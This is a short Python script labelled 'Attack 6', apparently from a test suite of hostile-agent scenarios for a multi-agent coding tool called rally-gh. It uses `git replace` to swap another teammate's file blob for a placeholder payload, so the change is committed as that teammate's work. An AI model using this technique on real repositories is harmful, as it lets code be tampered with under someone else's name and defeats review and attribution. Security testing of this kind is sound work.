#!/usr/bin/env python3
"""Attack 6: `git replace` the blob of another teammate's file; the next wave's checkout writes
the payload into it, and it is integrated as that teammate's work.

argv: PATH, a file another teammate owns, at the base commit. The replace ref goes into the
user's repository; where that is out of reach, into the attacker's own, which rally-gh's git
reads too when it commits what the attacker left and exports its work.
"""
import sys

from hostile import common_dir, git, own_work, try_git

path = sys.argv[1]
original = git("rev-parse", f"HEAD:{path}")
payload = git("hash-object", "-w", "--stdin", stdin="payload of an attacker\n")
replaced, _ = try_git("--git-dir", str(common_dir()), "replace", "-f", original, payload)
if replaced is None:
    git("replace", "-f", original, payload)
own_work()
